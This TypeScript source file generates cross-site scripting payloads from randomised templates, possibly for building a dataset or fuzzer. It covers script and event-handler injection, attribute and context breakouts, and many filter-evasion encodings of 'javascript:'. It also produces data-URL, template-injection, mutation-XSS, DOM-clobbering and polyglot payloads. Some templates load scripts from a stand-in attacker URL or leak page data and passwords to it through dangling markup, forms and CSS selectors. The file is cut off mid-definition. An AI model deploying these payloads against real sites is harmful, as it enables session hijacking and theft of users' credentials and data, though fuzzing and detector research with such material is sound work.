import {
  altered,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  type Part,
  repeat,
  same,
  text,
  type Write,
  words
} from '../template.ts';
import { dialogue, eventHandler, favouriteHandler, script, tag, withReferences } from '../vocabulary/html.ts';
import { attackerHost, attackerUrl, base64, inventedWord, LOWER, lowerWord, mixCase } from '../vocabulary/shared.ts';

/** Between a tag's name and its attributes browsers take any blank, and a slash. */
const gap = mostly(
  [' ', 12],
  ['/', 2.5],
  ['\t', 0.5],
  ['\n', 0.7],
  ['\r\n', 0.2],
  ['\f', 0.2],
  ['/ /', 0.2],
  [' / ', 0.3],
  ['//', 0.3],
  ['  ', 0.3],
  ['/~/', 0.1],
  ['\u00a0', 0.1],
  ['+', 0.5],
  ['%20', 0.2],
  ['%09', 0.15],
  ['%0a', 0.15],
  ['%0c', 0.15],
  ['/**/', 0.1],
  ['/x="x"', 0.2],
  [text` ${lowerWord}=${lowerWord} `, 0.8]
);
const equals = mostly(['=', 12], [' = ', 0.6], ['= ', 0.3], [' =', 0.3], ['=\n', 0.2], ['\t=', 0.1], ['%3d', 0.1]);
const ending = mostly(
  ['>', 10],
  ['/>', 1.5],
  ['', 1],
  ['//', 1],
  [' ', 0.4],
  ['<!--', 0.2],
  [' x=', 0.3],
  ['//>', 0.5],
  ['>\n', 0.1],
  ['<', 0.2],
  ['>//', 0.2]
);

/** An attribute value in double, single, back quotes or none. */
function quoted(part: Part): Write {
  return altered(part, (written, rng) => {
    const quote = rng.weighted([
      ['', 4],
      ['"', 5],
      ["'", 2],
      ['`', 0.4]
    ] as const);
    return quote !== '' && written.includes(quote) ? written : quote + written + quote;
  });
}
const cased = (part: Part): Write =>
  altered(part, (written, rng) =>
    rng.chance(0.12) ? mixCase(written, rng) : rng.chance(0.12) ? written.toUpperCase() : written
  );
const prefix = mostly(
  ['', 6],
  ['">', 2],
  ["'>", 1],
  ['>', 0.5],
  ['"/>', 0.2],
  [text`${lowerWord}`, 0.6],
  [text`${inventedWord} ${inventedWord} `, 0.5],
  ['</script>', 0.3],
  ['</textarea>', 0.3],
  ['</title>', 0.3],
  ['--><', 0],
  ['-->', 0.3],
  ['</style>', 0.2],
  ['\'">', 0.5],
  ['"><', 0],
  [']]>', 0.1],
  ['</select>', 0.1],
  ['</noscript>', 0.1],
  ['\\">', 0.2],
  ["\\'>", 0.1],
  [integer(1, 99), 0.3]
);

/** Most payloads may follow whatever the page had open. */
function anywhere(part: Part): Write {
  return text`${prefix}${part}`;
}

const source = mostly(
  [
    oneOf(
      'x',
      '1',
      '#',
      'a',
      '.',
      '//',
      'http://x',
      'x:x',
      'about:blank',
      'javascript:',
      '@',
      'x onerror',
      '/',
      lowerWord,
      text`http://${lowerWord}`,
      '*',
      '%26',
      '""',
      'data:'
    ),
    4
  ],
  [attackerUrl, 1]
);
const handler = text`${favouriteHandler}${equals}`;
const handled = text`${handler}${quoted(script)}`;
const scriptScheme = mostly(
  ['javascript:', 8],
  ['JavaScript:', 1],
  ['JAVASCRIPT:', 0.6],
  ['jAvAsCrIpT:', 0.5],
  [altered('javascript:', mixCase), 0.8],
  ['javascript&colon;', 0.8],
  ['javascript&#58;', 0.4],
  ['javascript&#x3a;', 0.4],
  ['java&Tab;script:', 0.5],
  ['java&NewLine;script:', 0.4],
  ['jav&#x09;ascript:', 0.4],
  ['jav&#x0A;ascript:', 0.4],
  ['jav\tascript:', 0.6],
  ['java\nscript:', 0.5],
  ['java\r\nscript:', 0.2],
  ['j\na\nv\na\ns\nc\nr\ni\np\nt\n:', 0.3],
  ['\u0001javascript:', 0.4],
  [' javascript:', 0.4],
  ['&#14;javascript:', 0.3],
  ['\u0000javascript:', 0.1],
  [altered('javascript:', withReferences(1)), 1.2],
  [altered('javascript:', withReferences(0.4)), 1],
  ['javascript://%0a', 0.6],
  ['javascript://comment%0d%0a', 0.3],
  ['javascript:/**/', 0.3],
  ['javascript:void(0);', 0.2],
  ['javascript:javascript:', 0.4],
  [text`javascript://${inventedWord}.com/%0a`, 0.4],
  ['\\x6Aavascript:', 0.3],
  ['\\u006aavascript:', 0.3],
  ['javascript\\x3a', 0.3],
  ['javascript\\x3Ajavascript:', 0.3],
  ['java\\0script:', 0.2],
  ['javascript:;', 0.1],
  ['feed:javascript:', 0.2],
  ['view-source:javascript:', 0.1],
  ['livescript:', 0.2],
  ['mocha:', 0.1],
  ['vbscript:', 0.5],
  ['vbs:', 0.1],
  ['jar:javascript:', 0.05]
);
const vbscript = oneOf(
  text`vbscript:msgbox(${oneOf('1', '"xss"', "'XSS'", 'document.cookie')})`,
  text`vbscript:alert(${integer(1, 9)})`,
  'vbscript:execute("alert(1)")'
);
const scriptUrl = mostly(
  [text`${scriptScheme}${script}`, 8],
  [vbscript, 0.6],
  [text`data:text/html${oneOf(',', ';charset=utf-8,', ';,')}<script>${script}</script>`, 1],
  [altered(text`<script>${script}</script>`, (markup) => `data:text/html;base64,${base64(markup)}`), 1.5],
  [altered(text`<svg onload=${script}>`, (markup) => `data:text/html;charset=utf-7;base64,${base64(markup)}`), 0.5],
  [text`data:${oneOf('application/x-javascript', 'text/javascript', 'application/javascript', '')},${script}`, 0.6],
  [text`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`, 0.4],
  [text`data:text/html,%3Cscript%3E${dialogue}(${integer(1, 99)})%3C%2Fscript%3E`, 0.4]
);

export const scriptTemplates = family('cross-site-scripting/script', {
  plain: anywhere(text`<${cased('script')}>${script}</${cased('script')}>`),
  'with-attributes': anywhere(
    text`<${cased('script')}${gap}${oneOf('type="text/javascript"', 'type=module', 'defer', 'async', "language='javascript'", 'x', 'src=""', 'language=vbscript', '~', 'a=">"', 'a=1', 'nonce="x"', 'type=text/vbscript', 'src=data:,', text`${lowerWord}="${lowerWord}"`)}>${script}</script>`
  ),
  remote: anywhere(
    text`<${cased('script')}${gap}${maybe('async ', 0.1)}src${equals}${quoted(attackerUrl)}${oneOf('></script>', '>', '/>', '></script x>', '</script>', ' <b>', '?<b>', '#', '></sCrIpT>')}`
  ),
  'remote-data': anywhere(
    text`<script${gap}src${equals}${quoted(text`data:${oneOf('text/javascript', '', 'application/x-javascript;charset=utf-8')},${script}`)}></script>`
  ),
  'odd-end': anywhere(
    text`<script>${script}${oneOf('//', '<!--', '', '//</script>', '</script ', '</script\n>', '</script x=y>', '</script/', '//-->', '\n//--></script>', '</SCRIPT\t>', ';<!--</script>', '\u2028--></script>')}`
  ),
  'odd-start': anywhere(
    text`${oneOf('<script\n>', '<script\t>', '<script/>', '<script x>', '<script/x>', '<<script>', '<script\f>', '<script\u000b>', '<scr\u0000ipt>', '<script\r\n>', '<script/src>', '<<SCRIPT>', '<script />', '< script >', '<script ~~~>', '<script<', '\u00bcscript\u00be', '<%73cript>', '<script\\x20type="text/javascript">', '<script\\x0d>', '<script\\x3E', '<\\x00script>', '<script %00>', '<script%20>')}${script}${oneOf('</script>', '', '</script >', '//', '</script\n>', '\u00bc/script\u00be')}`
  ),
  'nested-filter': anywhere(
    text`${oneOf('<scr<script>ipt>', '<sc<script>ript>', '<<script>script>', '<s<script>cript>', '<scr\nipt>', '<scri<!-- -->pt>', '<scrscriptipt>', '<SCR<SCRIPT>IPT>', '<ScRiPt >')}${script}${oneOf('</scr</script>ipt>', '</script>', '</sc</script>ript>', '<</script>/script>', '</scrscriptipt>', '</ScRiPt>')}`
  ),
  'close-open-script': text`${oneOf("'", '"', '', ';', '*/', '`', lowerWord, '-->')}</script><script>${script}</script>${maybe(oneOf('<script>', '//', '<'))}`,
  'svg-script': anywhere(
    text`<svg>${oneOf('', '<a>', '<g>', '<desc>', '<foreignObject>')}<script${oneOf('', text` ${oneOf('xlink:href', 'href')}=${quoted(oneOf(text`data:,${script}`, attackerUrl))}`, ' ?')}>${oneOf(script, altered(script, withReferences(0.5)), text`/*<!--*/${script}`, text`<![CDATA[${script}]]>`)}${oneOf('</script>', '</script></svg>', '', '</svg>', '<b>')}`
  ),
  'xml-script': text`<${oneOf('x', 'html', 'x:script', 'a', 'svg', '?xml version="1.0"?><x')} xmlns${maybe(text`:${letters(LOWER, 1)}`)}="http://www.w3.org/${oneOf('1999/xhtml', '2000/svg')}">${oneOf('', '<')}${maybe('html:')}script>${script}</script>`,
  'comment-breakout': text`${oneOf('-->', '--!>', '*/', ']]>', '--><!--', '%>', '?>', '<!-->', '<!--->', '<!-- -- -->', '<!--[if gte IE 4]>', '<!--[if IE]>', '<![endif]-->')}<${oneOf('script', 'SCRIPT')}>${script}</script>${maybe(oneOf('<!--', '<![endif]-->', '/*'))}`,
  'title-breakout': text`${maybe(lowerWord)}</${words('title textarea style noscript template iframe xmp noembed noframes select math svg option table form button a div')}${oneOf('>', ' >', '/>')}<${oneOf(text`script>${script}</script>`, text`img${gap}src=${source} ${handled}>`, text`svg${gap}${handled}>`)}`,
  'json-module': anywhere(
    text`<script type=${oneOf('importmap>{"imports":{"', '"importmap">{"imports":{"', '\'speculationrules\'>{"prefetch":[{"urls":["')}${lowerWord}${oneOf('":"', '"]}],"x":"')}${oneOf(attackerUrl, text`data:text/javascript,${dialogue}(1)`)}"}}</script>`
  ),
  'trailing-fragment': text`${oneOf('ript>', 'script>', '<sc', 'cript>')}${script}${oneOf('</script>', '</sc', '<script>')}`,
  'encoded-entities': altered(text`<script>${script}</script>`, (written) =>
    written.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  ),
  'escaped-unicode': altered(text`<script>${script}</script>`, (written, rng) => {
    const style = rng
      .pick([
        '\\u003c|\\u003e',
        '\\x3c|\\x3e',
        '\\74|\\76',
        '\uff1c|\uff1e',
        '&#60;|&#62;',
        '&#x3c;|&#x3e;',
        '%3C|%3E',
        '%u003c|%u003e',
        '\u2039|\u203a',
        '\u02c2|\u02c3',
        '+ADw-|+AD4-',
        '\\u{3c}|\\u{3e}'
      ])
      .split('|');
    return written.replaceAll('<', style[0]!).replaceAll('>', style[1]!);
  }),
  'buried-in-text': text`${repeat(text`${lowerWord} `, 2, 12)}<script>${script}</script>${repeat(text` ${lowerWord}`, 0, 9)}`
});

export const handlerTemplates = family('cross-site-scripting/handler', {
  'image-error': anywhere(
    text`<${cased('img')}${gap}src${equals}${quoted(source)}${gap}${cased('onerror')}${equals}${quoted(script)}${ending}`
  ),
  'image-variants': anywhere(
    text`<${cased(words('image img input video audio source embed object picture'))}${gap}${words('src href xlink:href data srcset poster srcdoc')}${equals}${quoted(source)}${gap}${words('onerror onerror onload onloadstart oncanplay onloadeddata')}${equals}${quoted(script)}${ending}`
  ),
  media: anywhere(
    text`<${words('video audio')}${maybe(text`${gap}${words('autoplay controls muted loop')}`)}${oneOf('>', text`${gap}src${equals}${quoted(source)}>`, text`${gap}`)}${maybe('<')}source${gap}onerror${equals}${quoted(script)}${ending}${maybe('</video>')}`
  ),
  'svg-load': anywhere(text`<${cased('svg')}${gap}${cased('onload')}${equals}${quoted(script)}${ending}`),
  'svg-animation': anywhere(
    text`<svg>${maybe(text`<${words('a g circle text rect')}>`)}<${words('animate set animateTransform animateMotion discard')}${gap}${maybe(text`attributename=${words('x href onmouseover')} ${maybe('dur=1s ')}`)}${words('onbegin onend onrepeat')}${equals}${quoted(script)}${ending}`
  ),
  'svg-animated-link': anywhere(
    text`<svg><a${maybe(' id=x')}><${words('animate set')} ${maybe('xlink:href=#x ')}attributename=href ${words('values from to')}=${quoted(scriptUrl)}${maybe(' begin=0s')} /><text x=20 y=20>${lowerWord}</text></a>`
  ),
  'svg-use': anywhere(
    text`<svg><use${gap}${maybe('xlink:')}href=${quoted(
      oneOf(
        text`data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a xlink:href='javascript:${script}'><rect x='0' y='0' width='100' height='100'/></a></svg>#x`,
        attackerUrl,
        altered(text`<svg id=x onload="${script}">`, (markup) => `data:image/svg+xml;base64,${base64(markup)}#x`)
      )
    )}${ending}`
  ),
  body: anywhere(
    text`<body${gap}${words('onload onpageshow onhashchange onscroll onresize onfocus onunload onbeforeunload onmessage onoffline onpopstate')}${equals}${quoted(script)}${oneOf('>', text`>${repeat('<br>', 2, 9)}<x id=x>#x`, text`><input autofocus>`, '')}`
  ),
  'details-toggle': anywhere(
    text`<details${gap}${maybe('open ')}ontoggle${equals}${quoted(script)}${maybe(' open')}${ending}`
  ),
  focus: anywhere(
    text`<${words('input textarea select button keygen a div body video x details object iframe summary')}${gap}${words('onfocus onfocusin onblur onactivate')}${equals}${quoted(script)} ${oneOf('autofocus', 'autofocus', 'tabindex=1', 'tabindex=1 id=x', 'contenteditable', 'autofocus=""', text`id=${letters(LOWER, 1)} tabindex=0`)}${ending}`
  ),
  marquee: anywhere(
    text`<marquee${gap}${words('onstart onfinish onbounce loop=1 width=0')} ${words('onstart onfinish onbounce')}${equals}${quoted(script)}${ending}`
  ),
  'any-tag-any-handler': anywhere(text`<${cased(tag)}${gap}${eventHandler}${equals}${quoted(script)}${ending}`),
  'any-tag-with-text': anywhere(
    same(
      tag,
      (name) =>
        text`<${name}${gap}${maybe(text`${words('id class style tabindex contenteditable draggable')}=${quoted(lowerWord)} `)}${eventHandler}${equals}${quoted(script)}>${oneOf('test', 'click', lowerWord, 'x', integer(1, 9))}</${name}>`
    )
  ),
  'any-tag-many-attributes': anywhere(
    text`<${tag} ${repeat(text`${words('id class style src href width height title alt name value type rel xmlns tabindex')}${equals}${quoted(oneOf(lowerWord, integer(1, 999), source))}${gap}`, 1, 4)}${eventHandler}${equals}${quoted(script)}${ending}`
  ),
  'custom-tag': anywhere(
    text`<${oneOf('x', 'xss', 'custom-element', 'a1', lowerWord, text`${lowerWord}-${lowerWord}`)}${gap}${maybe('id=x tabindex=1 ')}${handled}${oneOf('>', text`>${lowerWord}</x>`, '>#x', ending)}`
  ),
  'style-animation': anywhere(
    text`<style>@keyframes ${letters(LOWER, 1, 4)}{}</style><${tag}${gap}style="animation-name:${letters(LOWER, 1, 4)}" ${words('onanimationstart onanimationend onanimationiteration onwebkitanimationstart')}${equals}${quoted(script)}${ending}`
  ),
  transition: anywhere(
    text`<${tag}${gap}style="transition:${oneOf('outline 1s', 'color 0.1s', 'all 1s')}" ${words('ontransitionend ontransitionrun ontransitionstart ontransitioncancel')}${equals}${quoted(script)}${maybe(' tabindex=1')}${ending}`
  ),
  popover: anywhere(
    text`<${words('button input')} popovertarget=x>${lowerWord}</button><${tag} popover id=x ${words('onbeforetoggle ontoggle')}${equals}${quoted(script)}${ending}`
  ),
  referenced: anywhere(
    text`<${tag}${gap}${maybe(text`src=${source} `)}${favouriteHandler}${equals}${quoted(altered(script, withReferences(0.8)))}${ending}`
  ),
  'partly-referenced': anywhere(
    text`<${tag}${gap}${maybe(text`src=${source} `)}${favouriteHandler}${equals}${quoted(altered(script, withReferences(0.15)))}${ending}`
  ),
  unclosed: anywhere(
    text`<${words('img svg iframe body input video a')}${gap}${maybe(text`src${equals}${source}${gap}`)}${handled}`
  ),
  'script-url-in-handler': anywhere(text`<${tag}${gap}${eventHandler}${equals}${quoted(scriptUrl)}${ending}`),
  'handler-name-abused': anywhere(
    text`<${same(tag, (name) => text`${name} ${favouriteHandler} ${name} ${favouriteHandler}=${quoted(scriptUrl)}></${name} ${favouriteHandler}>`)}`
  )
});

const attributeOpen = oneOf(
  '"',
  "'",
  '" ',
  "' ",
  '"/',
  '""',
  '\\"',
  "x'",
  'x"',
  '`',
  '&quot;',
  '&#39; ',
  '"" ',
  text`${lowerWord}"`,
  text`${lowerWord}" `,
  text`${inventedWord}' `,
  '\' "',
  '"\n'
);
export const breakoutTemplates = family('cross-site-scripting/breakout', {
  'attribute-handler': text`${attributeOpen} ${handled}${oneOf('', ' ', ' x="', " x='", '//', text` ${lowerWord}="`, '>', ' "', " '")}`,
  'attribute-handler-any': text`${attributeOpen}${gap}${eventHandler}${equals}${quoted(script)}${oneOf('', ' x="', " a='", '//', ' bad="')}`,
  'attribute-focus': text`${attributeOpen}${gap}${oneOf('autofocus onfocus', 'onfocus', 'tabindex=1 autofocus onfocus', 'autofocus tabindex=0 onfocusin')}${equals}${quoted(script)}${oneOf('', ' autofocus', ' autofocus x="', text` ${lowerWord}='`, '//')}`,
  'attribute-style': text`${attributeOpen}${gap}style=${quoted(oneOf(text`position:fixed;left:0;top:0;width:100%;height:100%`, text`animation-name:${lowerWord}`, 'width:100%;display:block', text`xss:expression(${script})`, text`background:url(javascript:${script})`))} ${handled}`,
  'attribute-then-tag': text`${oneOf('"', "'", '`', '\\"')}${oneOf('>', '/>', ' >', ' x>')}<${oneOf(text`script>${script}</script>`, text`img${gap}src=${source}${gap}onerror=${quoted(script)}>`, text`svg${gap}onload=${quoted(script)}>`, text`${tag} ${handled}${ending}`, text`a href=${quoted(scriptUrl)}>${lowerWord}`, text`iframe src=${quoted(scriptUrl)}>`)}`,
  'script-string-single': text`${maybe(lowerWord)}'${oneOf(';', '-', '+', '*', '/', ');', '});', ',', '|', '^', '%', '?', '&&', '||', '}', '];', '\n', '==', '<')}${script}${oneOf('//', "-'", "+'", ";'", ";//'", "*'", ";var a='", "|'", '<!--', "&&'", ';/*', "||'", ",'")}`,
  'script-string-double': text`${maybe(lowerWord)}"${oneOf(';', '-', '+', '*', '/', ');', '});', ',', '|', '^', '}', '];', '&&', '||')}${script}${oneOf('//', '-"', '+"', ';"', ';//', '*"', ';var a="', '|"', '<!--', '&&"', '/*', ',"')}`,
  'script-string-escaped': text`${oneOf("\\'", '\\"', "\\\\'", '\\\\"', '%27', '&apos;', '&#39;', '&quot;', "'", '"')}${oneOf(';', '-', '+', ');', '});', ']);', '}});')}${script}${oneOf('//', '-&apos;', "-'", '<!--', ';{//', '}//', '{//', ';({//')}`,
  'script-template-literal': text`${maybe(lowerWord)}${oneOf('${', '`;', '`+', '`-', '${`')}${script}${oneOf('}', '//', '+`', '-`', '`}')}`,
  'script-block': text`${oneOf(';', '}', '};', ');', '*/', '\n', '1;', '}}', '1-', '1,', 'null;', '/;', '0)', '{}', '/**/')}${script}${oneOf('//', ';/*', '<!--', ';//', ';{', '', '/*')}`,
  callback: oneOf(
    text`${maybe('jQuery')}${script}//`,
    text`${script};${lowerWord}`,
    text`${dialogue}(${integer(1, 9)})//${lowerWord}`,
    text`callback=${script}`
  ),
  'expression-in-json': text`${oneOf('"}', "'}", '"]', '"}]}', '"})', "'})")}${oneOf(';', ',', '-', '</script><script>')}${script}${oneOf('//', ';{"', '</script>', "({'")}`,
  angular: text`{{${oneOf(
    text`${oneOf('', 'a.', '$on.', 'toString.', '[].pop.', '_c.', '_openBlock.', '[].', "''.sub.", '$eval.', 'x.')}constructor${maybe('.constructor')}('${oneOf(script, text`${dialogue}(${integer(1, 99)})`)}')()`,
    text`${same(letters(LOWER), (name) => text`${name}=${oneOf('toString()', "''", '[]')}.constructor.prototype;${name}.${words('charAt trim slice')}=${name}.${words('trim concat join')};$eval('${name},${dialogue}(1),${name}')`)}`,
    text`${quoted(letters(LOWER))}.constructor.prototype.${words('charAt trim toString')}=[].${words('join concat slice')};$eval('${letters(LOWER)}=${integer(0, 9)}} } };${script}//')`,
    text`${letters(LOWER)}=valueOf.name.constructor.fromCharCode;constructor.constructor(${letters(LOWER)}(${repeat(integer(40, 122), 5, 12, ',')}))()`,
    text`[${integer(1, 9)}]|${words('orderBy filter map')}:'${dialogue}(1)'`
  )}}}`,
  'vue-directives': anywhere(
    text`<${words('div x p img a')} ${oneOf('v-show', 'v-on:click', '@click', 'v-html', ':is', 'v-bind:x', 'ng-click', 'ng-focus', 'ng-init', 'x-init', 'x-on:click', '@mouseover', 'data-ng-app ng-csp ng-click', 'hx-on:click', 'on:click')}=${quoted(oneOf(text`_c.constructor\`${dialogue}(1)\`()`, text`$event.view.${dialogue}(1)`, script, text`constructor.constructor('${dialogue}(1)')()`, text`$event.path|orderBy:'(z=${dialogue})(1)'`))}>`
  )
});

const css = oneOf(
  text`${lowerWord}:${oneOf('expression', 'expre/**/ssion', 'exp/*<A STYLE=*/ression', 'e\\xpression', 'expressio\\6e', 'expr\\65ssion', 'EXPRESSION', 'expressio&#x5c;6e', '\uff45xpression', 'exp\\0ression')}(${script})`,
  text`${words('background background-image list-style-image behavior border-image cursor content list-style')}:url(${quoted(scriptUrl)})`,
  text`-moz-binding:url(${quoted(oneOf(text`${attackerUrl}#xss`, text`data:text/xml,<bindings>`))})`,
  text`behavior:url(${attackerUrl})`,
  text`-o-link:'${scriptUrl}';-o-link-source:current`,
  text`\\${oneOf('65', '0065', '45')}xpression(${script})`,
  text`x:${oneOf('\\x20', '\\xE2\\x80\\x8A', '\\x09', '\\x0C', '\u00a0')}expression(${scriptUrl})`,
  text`@import ${quoted(oneOf(attackerUrl, scriptUrl))}`,
  text`filter:progid:dximagetransform.microsoft.${words('alphaimageloader matrix')}(src='${scriptUrl}')`
);
export const elementTemplates = family('cross-site-scripting/element', {
  link: anywhere(
    text`<a${gap}${maybe(oneOf('id=x ', 'target=_blank ', text`class=${lowerWord} `, 'style=display:block '), 0.3)}${oneOf('href', 'href', 'xlink:href', 'HREF', 'ping')}${equals}${quoted(scriptUrl)}${oneOf('>', text`>${oneOf('click', 'test', 'X', 'click me', lowerWord)}</a>`, ending)}`
  ),
  'link-odd-space': anywhere(
    text`<a href="${oneOf('\\x', '\\u', '&#')}${oneOf('0b', '20', '0c', 'e2\\x80\\x87', 'e1\\x9a\\x80', '01', 'a0', '1f', '00', '3b', '2028', '8;')}${scriptUrl}" id="${lowerWord}${integer(1, 99)}">${lowerWord}</a>`
  ),
  'bare-script-url': text`${scriptScheme}${script}`,
  'bare-data-url': scriptUrl,
  iframe: anywhere(
    text`<${words('iframe iframe frame embed frameset')}${gap}${maybe(handled, 0.2)} ${words('src src src data')}${equals}${quoted(scriptUrl)}${oneOf('>', '></iframe>', ending)}`
  ),
  'iframe-remote': anywhere(
    text`<${words('iframe frame embed object')}${gap}${words('src data')}${equals}${quoted(attackerUrl)}${oneOf('>', ' width=0 height=0>', '></iframe>', ' <', ' style="display:none">', text` ${handled}>`)}`
  ),
  srcdoc: anywhere(
    text`<iframe${gap}srcdoc${equals}${oneOf(text`"<${words('img svg body')} ${words('src=x/onerror onload onerror')}=${script}>"`, text`'<script>${script}</script>'`, quoted(altered(text`<script>${script}</script>`, withReferences(0.4))), text`"&lt;svg onload=${script}&gt;"`)}${ending}`
  ),
  object: anywhere(
    text`<object${gap}${oneOf('data', 'type="text/x-scriptlet" data', 'classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value', 'onerror', 'codetype=x classid', 'allowscriptaccess=always data')}${equals}${quoted(scriptUrl)}${oneOf('>', '></object>', ending)}`
  ),
  meta: anywhere(
    text`<meta${gap}http-equiv=${quoted(oneOf('refresh', 'Refresh', 'set-cookie', 'Link', 'Content-Security-Policy'))} content=${quoted(oneOf(text`${integer(0, 5)};url=${scriptUrl}`, text`${integer(0, 5)}; URL=${attackerUrl}`, text`<${attackerUrl}>; rel=stylesheet`, text`userid=<script>${script}</script>`))}${ending}`
  ),
  base: anywhere(
    text`<base${gap}href=${quoted(oneOf(text`javascript:/`, text`${attackerUrl}`, text`javascript:/a/-${script}//////`, 'data:/,alert(1)/'))}${oneOf('>', text`><a href=//.%0a${script}>${lowerWord}</a>`, '>\n<script src="/x.js">', '/>')}`
  ),
  'stylesheet-link': anywhere(
    text`<link${gap}rel=${quoted(oneOf('stylesheet', 'import', 'icon', 'preload', 'prefetch', 'modulepreload', 'prerender'))} href=${quoted(oneOf(scriptUrl, attackerUrl))}${oneOf(ending, text` ${handled}>`, text` as=script onload=${script}>`)}`
  ),
  'style-block': anywhere(
    text`<style${maybe(' type=text/css')}>${oneOf(
      css,
      text`${tag}{${css}}`,
      text`@import'${attackerUrl}';`,
      text`body{background:url("${scriptUrl}")}`,
      text`.${lowerWord}{background-image:url("${scriptUrl}");}`,
      text`*[{}*{${css}}`,
      text`${altered('@import', (rule, rng) => {
        const at = rng.int(2, 5);
        return `${rule.slice(0, at)}\\${rule.slice(at)}`;
      })}'${altered('javascript:', (scheme, rng) => {
        const at = rng.int(2, 8);
        return `${scheme.slice(0, at)}\\${scheme.slice(at)}`;
      })}${script}';`,
      text`input[value^=${letters(LOWER, 1)}]{background:url(${attackerUrl})}`
    )}</style>${maybe(text`<${tag} class=${lowerWord}>`)}`
  ),
  'style-attribute': anywhere(
    text`<${tag}${gap}style${equals}${quoted(css)}${oneOf(ending, text`>${lowerWord}</div>`)}`
  ),
  'form-action': anywhere(
    oneOf(
      text`<form${gap}action=${quoted(scriptUrl)}>${oneOf('<input type=submit>', '<button>x</button>', '')}`,
      text`<form id=x></form><button form=x formaction=${quoted(scriptUrl)}>X`,
      text`<${words('input button')} ${maybe('type=submit ')}formaction=${quoted(scriptUrl)}${oneOf(ending, text`>${lowerWord}</button>`)}`,
      text`<isindex ${maybe('type=image src=1 ')}${oneOf(handled, text`action=${quoted(scriptUrl)}`, text`formaction=${quoted(scriptUrl)}`)}>`,
      text`<form${gap}action="${attackerUrl}" method=post><input name=password type=password>`
    )
  ),
  'old-attributes': anywhere(
    text`<${oneOf('table background', 'td background', 'body background', 'img dynsrc', 'img lowsrc', 'bgsound src', 'input type="image" src', 'layer src', 'img src', 'tr background', 'br size="&{1}" x', 'comment><img src', 'event-source src', 'ilayer src', 'image src', 'embed code', 'applet code', 'video poster', 'html manifest', 'xml src', 'frameset onload', 'div datafld="b" dataformatas="html" datasrc', 'q cite', 'bgsound lowsrc', 'img usemap')}${equals}${quoted(scriptUrl)}${ending}`
  ),
  math: anywhere(
    text`<math${maybe('><mtext')}${gap}${oneOf(text`${maybe('xlink:')}href=${quoted(scriptUrl)}>${lowerWord}`, text`><maction ${maybe('actiontype="toggle" ')}xlink:href=${quoted(scriptUrl)}>${lowerWord}</maction></math>`, text`><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`, text`><annotation-xml encoding="text/html"><img src=x onerror=${script}>`, text`><mi${gap}xlink:href="data:x,<script>${script}</script>">`)}`
  ),
  mutation: oneOf(
    text`<${words('noscript style title textarea xmp noembed iframe noframes')}><p title="</${words('noscript style title textarea xmp noembed iframe noframes')}><img src=x onerror=${script}>">`,
    text`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
    text`<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
    text`<math><mtext><table><mglyph><style><${oneOf('!--', '![CDATA[')}</style><img title="${oneOf('--&gt;', ']]&gt;')}&lt;img src=1 onerror=${script}&gt;">`,
    text`<svg><${words('desc title foreignobject')}><${words('style noscript textarea')}><!--</style><a id="--><img src=x onerror=${script}>">`,
    text`<listing>&lt;img onerror="${script}" src=x&gt;</listing>`,
    text`<img alt="\`\`onerror=${script} src=x \`\`">`,
    text`<p style="font-family:'\\22\\3bx:expression(${script})/*'">`,
    text`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${script}>">`
  ),
  'dangling-markup': anywhere(
    oneOf(
      text`<img${gap}src=${oneOf('"', "'", '`')}${attackerUrl}?`,
      text`<a href=${attackerUrl}><font size=100 color=red>${lowerWord}</font></a><base target='`,
      text`<meta http-equiv="refresh" content='0; url=${attackerUrl}?`,
      text`<form action='${attackerUrl}'><textarea name=x>`,
      text`<link rel=dns-prefetch href="//${attackerHost}">`,
      text`<table background='${attackerUrl}?`
    )
  ),
  'dom-clobbering': anywhere(
    text`<${oneOf(text`a id=${words('defaultAvatar config x CONFIG test')}><a id=x name=avatar href="cid:&quot;onerror=${script}//"`, text`form id=x tabindex=0 onfocus=${script}><input id=attributes`, text`img name=${words('getElementById body cookie currentScript')} src=${attackerUrl} ${handled}`)}>`
  ),
  polyglot: text`${altered(text`${repeat(oneOf("'", '"', '`', '*/', '/*', '-->', '//', ';', '>', '\\', ')', '}', '</title>', '</style>', '</textarea>', '</script>', '</noscript>', '</plaintext>', '<!--', ']]>'), 4, 12)}`, (closers, rng) => (rng.chance(0.3) ? `${mixCase('javascript:', rng)}${closers}` : closers))}${oneOf(text`<${cased('svg')}/${cased('onload')}=${script}//`, text`${cased('onclick')}=${script}//`, text`<script>${script}</script>`, text`<img src=x onerror=${script}>`, text`<details open ontoggle=${script}>`)}${repeat(oneOf("'", '"', '//', '-->', '>', '/*', '`'), 0, 4)}`,
  'markdown-link': text`${maybe('!')}[${oneOf(lowerWord, 'a', 'click me', '')}](${scriptUrl}${maybe(text` "${lowerWord}"`, 0.2)})`,
  'markdown-breakout': text`![${lowerWord}](${oneOf('https://x', lowerWord)}${oneOf('"', "'")}${handled}${oneOf(')', '"x)', text` "${lowerWord}")`)}`,
  bbcode: oneOf(
    text`[${oneOf('url', 'img', 'color')}=${quoted(scriptUrl)}]${lowerWord}[/url]`,
    text`[img]${scriptUrl}[/img]`,
    text`[url]${scriptUrl}[/url]`,
    text`[color=red' ${handled}]${lowerWord}[/color]`
  ),
  'server-markup': oneOf(
    text`<?xml-stylesheet ${maybe('type="text/css" ')}href="${scriptUrl}"?>`,
    text`<!DOCTYPE x [<!ENTITY x "&lt;script&gt;${script}&lt;/script&gt;">]>&x;`,
    text`<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<script>${script}</script>">`,
    text`<xml id=x><a><b>&lt;script&gt;${script};&lt;/script&gt;</b></a></xml><span datafld=b datasrc=#x></span>`,
    text`<x:x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${script}</x:script>`
  ),
  'bare-handler': text`${maybe(text`${lowerWord} `)}${eventHandler}${equals}${quoted(script)}`,
  'bare-script': oneOf(
    text`${script};${script}`,
    text`<${script}>`,
    text`javascript:${script}//`,
    text`${lowerWord};${script}//`
  ),
